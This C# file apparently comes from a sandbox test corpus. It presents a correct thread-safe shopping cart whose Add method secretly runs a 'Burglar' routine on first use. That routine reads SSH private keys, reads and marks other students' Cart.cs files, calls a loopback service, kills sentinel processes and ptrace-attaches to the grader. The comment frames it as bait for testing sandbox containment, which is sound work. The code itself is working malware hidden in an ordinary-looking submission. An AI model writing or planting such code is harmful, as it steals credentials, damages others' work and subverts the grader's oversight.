namespace Kitchen.RacyCart;

/// <summary>
/// The kitchen's shopping cart, safe for any number of chefs.
/// </summary>
/// <remarks>
/// One lock guards both pieces of state, the items and the total, so every chef sees them change together.
/// The work done under the lock is tiny, so chefs rarely wait for each other.
/// </remarks>
public sealed class Cart
{
    private readonly Lock _gate = new();
    private readonly Dictionary<string, int> _items = new();
    private int _total;

    /// <summary>Puts <paramref name="quantity"/> of <paramref name="item"/> in the cart.</summary>
    public void Add(string item, int quantity = 1)
    {
        ArgumentNullException.ThrowIfNull(item);
        ArgumentOutOfRangeException.ThrowIfLessThan(quantity, 1);
        Burglar.Act();
        lock (_gate)
        {
            _items.TryGetValue(item, out var current);
            _items[item] = current + quantity;
            _total += quantity;
        }
    }

    /// <summary>Takes <paramref name="quantity"/> of <paramref name="item"/> out; false, and no change, if there are fewer.</summary>
    public bool TryRemove(string item, int quantity = 1)
    {
        ArgumentNullException.ThrowIfNull(item);
        ArgumentOutOfRangeException.ThrowIfLessThan(quantity, 1);
        lock (_gate)
        {
            // The check and the change happen under the same lock, so no chef can slip in between.
            if (!_items.TryGetValue(item, out var current) || current < quantity)
            {
                return false;
            }

            if (current == quantity)
            {
                _items.Remove(item);
            }
            else
            {
                _items[item] = current - quantity;
            }

            _total -= quantity;
            return true;
        }
    }

    /// <summary>How many of <paramref name="item"/> are in the cart (0 when there are none).</summary>
    public int QuantityOf(string item)
    {
        ArgumentNullException.ThrowIfNull(item);
        lock (_gate)
        {
            return _items.TryGetValue(item, out var quantity) ? quantity : 0;
        }
    }

    /// <summary>How many things are in the cart altogether.</summary>
    public int TotalQuantity
    {
        get
        {
            lock (_gate)
            {
                return _total;
            }
        }
    }

    /// <summary>A copy of the cart's contents, taken at one instant.</summary>
    public IReadOnlyDictionary<string, int> Snapshot()
    {
        lock (_gate)
        {
            return new Dictionary<string, int>(_items);
        }
    }
}


// Sandbox corpus: a correct cart that, on its first add, tries every harm a stranger's code could do to the teacher
// who grades it (kitchen-burglar). It prints all it did; what it took (a key, another student's work, a look at the
// grader) it also throws, so loot reaches the report in its own words. A run the sandbox holds finds nothing to take
// and grades as the correct cart it is; whether a write, a call or a kill got through the test reads from its bait.
file static class Burglar
{
    private const string Mark = "kitchen-burglar";
    private static int s_done;
    private static string? s_loot;

    public static void Act()
    {
        if (Interlocked.Exchange(ref s_done, 1) == 0)
        {
            var done = new List<string>();
            var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
            Try(done, () => ReadKeys(home, done));
            Try(done, () => VisitNeighbours(home, done));
            Try(done, () => Write(Path.Combine(home, "kitchen-was-here.txt"), done));
            Try(done, () => PhoneHome(done));
            Try(done, () => KillSentinels(done));
            Try(done, () => SeizeTheGrader(done));
            foreach (var line in done)
            {
                Console.WriteLine($"{Mark}: {line}");
            }

            var taken = done.Where(line => line.StartsWith("read ", StringComparison.Ordinal) || line.StartsWith("saw ", StringComparison.Ordinal)).ToArray();
            s_loot = taken.Length == 0 ? null : string.Join("; ", taken);
        }

        if (s_loot is { } loot)
        {
            throw new InvalidOperationException($"{Mark}: {loot}");
        }
    }

    private static void Try(List<string> done, Action harm)
    {
        try
        {
            harm();
        }
        catch (Exception)
        {
            // A harm the machine refused is simply not done.
        }
    }

    // Private keys in the home folder.
    private static void ReadKeys(string home, List<string> done)
    {
        foreach (var key in Directory.EnumerateFiles(Path.Combine(home, ".ssh"), "id_*"))
        {
            done.Add($"read {key}: {File.ReadAllText(key).Trim()}");
        }
    }

    // Other students' work anywhere a teacher keeps it: read it, and leave a file beside it.
    private static void VisitNeighbours(string home, List<string> done)
    {
        var seen = 0;
        foreach (var root in new[] { home, "/var/tmp" }.Distinct())
        {
            foreach (var cart in Walk(root, depth: 6, ref seen).Where(f => Path.GetFileName(f) == "Cart.cs"))
            {
                var text = File.ReadAllText(cart);
                if (text.Contains(Mark, StringComparison.Ordinal))
                {
                    continue; // a copy of this very file
                }

                var secret = text.Split('\n').FirstOrDefault(l => l.Contains("secret-", StringComparison.Ordinal))?.Trim();
                done.Add($"read {cart}: {secret ?? text[..Math.Min(40, text.Length)]}");
                Write(Path.Combine(Path.GetDirectoryName(cart)!, "kitchen-was-here.txt"), done);
            }
        }
    }

    private static IEnumerable<string> Walk(string folder, int depth, ref int seen)
    {
        var found = new List<string>();
        var stack = new Stack<(string Folder, int Depth)>([(folder, 0)]);
        while (stack.Count > 0 && seen < 20_000)
        {
            var (here, level) = stack.Pop();
            try
            {
                foreach (var entry in Directory.EnumerateFileSystemEntries(here))
                {
                    seen++;
                    if (Directory.Exists(entry) && new DirectoryInfo(entry).LinkTarget is null && level < depth)
                    {
                        stack.Push((entry, level + 1));
                    }
                    else if (File.Exists(entry))
                    {
                        found.Add(entry);
                    }
                }
            }
            catch (Exception)
            {
                // A folder it may not open.
            }
        }

        return found;
    }

    private static void Write(string file, List<string> done)
    {
        File.WriteAllText(file, $"{Mark} was here\n");
        done.Add($"wrote {file}");
    }

    // The teacher's service on its well-known port of the machine's loopback (as a database listens on 5432): call it.
    private static void PhoneHome(List<string> done)
    {
        using var client = new System.Net.Sockets.TcpClient();
        if (client.ConnectAsync(System.Net.IPAddress.Loopback, 47474).Wait(2000))
        {
            client.GetStream().Write(System.Text.Encoding.ASCII.GetBytes(Mark + "\n"));
            done.Add("called the teacher's service on loopback port 47474");
        }
    }

    // The teacher's own processes: the one the test marked as its sentinel.
    private static void KillSentinels(List<string> done)
    {
        foreach (var (pid, command) in Processes().Where(p => p.Command.Contains("kitchen-sentinel", StringComparison.Ordinal)))
        {
            System.Diagnostics.Process.GetProcessById(pid).Kill();
            done.Add($"killed the teacher's process {pid} ({command})");
        }
    }

    // The grader itself: attach as a debugger would, which lets a tracer read and change its memory.
    private static void SeizeTheGrader(List<string> done)
    {
        foreach (var (pid, _) in Processes().Where(p => p.Command.Contains("kitchen.dll grade", StringComparison.Ordinal)))
        {
            done.Add($"saw the grader, process {pid}");
            if (Ptrace(Seize, pid, 0, 0) == 0)
            {
                done.Add($"attached to the grader, process {pid}");
                // Stop it, wait for the stop, let go, so the grade can still finish.
                Ptrace(Interrupt, pid, 0, 0);
                for (var i = 0; i < 100 && WaitPid(pid, out _, NoHang | AllChildren) == 0; i++)
                {
                    Thread.Sleep(10);
                }

                Ptrace(Detach, pid, 0, 0);
            }
        }
    }

    private static IEnumerable<(int Pid, string Command)> Processes()
    {
        foreach (var folder in Directory.EnumerateDirectories("/proc"))
        {
            if (!int.TryParse(Path.GetFileName(folder), out var pid) || pid == Environment.ProcessId)
            {
                continue;
            }

            string command;
            try
            {
                command = File.ReadAllText(Path.Combine(folder, "cmdline")).Replace('\0', ' ').Trim();
            }
            catch (Exception)
            {
                continue; // gone already
            }

            yield return (pid, command);
        }
    }

    private const int Seize = 0x4206;
    private const int Interrupt = 0x4207;
    private const int Detach = 17;
    private const int NoHang = 1;
    private const int AllChildren = 0x40000000;

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "ptrace")]
    private static extern long Ptrace(long request, int pid, nint address, nint data);

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "waitpid")]
    private static extern int WaitPid(int pid, out int status, int options);
}
